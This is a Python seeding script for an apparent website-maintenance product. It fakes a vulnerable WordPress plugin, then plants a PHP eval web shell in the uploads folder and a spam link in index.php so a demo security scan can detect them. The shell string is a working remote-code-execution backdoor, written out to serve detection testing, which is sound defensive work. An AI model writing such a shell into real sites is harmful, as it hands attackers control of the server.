"""Demo security: the bakery's site tree (made by the backups demo) gets a WordPress core version and a plugin
that a bundled demo vulnerability feed (`feeds/wordfence-demo.json`, a made-up entry) lists as affected; a
first scan (yesterday) takes the integrity baseline and finds the vulnerable plugin; then a web shell is
planted in the uploads and the front controller altered, and the second scan (two hours ago) finds both. The
web shell opens its security incident at detection by itself — the 24-hour client-notification clock of
clause 6.3 has run for two hours when the engineer first looks (and ticks "maintenance mode"). Every other
demo site has never been scanned, and its security page says "Never scanned" (staff: agency action needed).

Call `seed_security(now)` after `seed_backups`. Safe to call twice: a site with findings is left alone.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from sitekeeper.access.models import Role, User
from sitekeeper.contracts.models import Site
from sitekeeper.security import feeds, incidents, scans
from sitekeeper.security.models import Finding

FEED = Path(__file__).parent / "feeds" / "wordfence-demo.json"
PLUGIN = """<?php
/*
Plugin Name: Contact Form 7
Version: 5.7.1
*/
"""
DETECTED_AGO = dt.timedelta(hours=2)
SHELL = "<?php if (isset($_REQUEST['c'])) { @eval(base64_decode($_REQUEST['c'])); } ?>\n"


def seed_security(now: dt.datetime) -> int:
    """Returns the number of findings the demo scans opened (0 when already seeded or not possible)."""
    site = Site.objects.filter(url="https://brot-und-butter.test").first()
    if site is None or Finding.objects.filter(site=site).exists() or not scans.scannable(site):
        return 0
    source = site.backup_sources.get(environment="prod", name="code")
    root = Path(source.path)
    (root / "wp-includes").mkdir(parents=True, exist_ok=True)
    (root / "wp-includes" / "version.php").write_text("<?php\n$wp_version = '6.1.9';\n")
    plugin = root / "wp-content" / "plugins" / "contact-form-7"
    plugin.mkdir(parents=True, exist_ok=True)
    (plugin / "wp-contact-form-7.php").write_text(PLUGIN)
    feeds.import_feed("demo-wordfence", "wordfence", str(FEED), now=now)
    scans.scan_site(site, now=now - dt.timedelta(days=1))  # yesterday: the baseline + the vulnerable plugin
    uploads = root / "wp-content" / "uploads" / "2026" / "11"
    uploads.mkdir(parents=True, exist_ok=True)
    (uploads / "cache-img.php").write_text(SHELL)
    index = root / "index.php"
    index.write_text(index.read_text() + "/* injected */ echo '<a href=\"https://casino.example\">.</a>';\n")
    scans.scan_site(site, now=now - DETECTED_AGO)  # the incident and its 6.3 clock open here, by themselves
    engineer = User.objects.filter(role=Role.ENGINEER).order_by("pk").first()
    shell = Finding.objects.filter(site=site, kind="malware").order_by("pk").first()
    incident = incidents.current(shell) if shell is not None else None
    if engineer is not None and incident is not None:
        incidents.tick(
            incident, "maintenance", engineer, note="Maintenance mode on while we clean up.", at=now
        )
    return Finding.objects.filter(site=site).count()
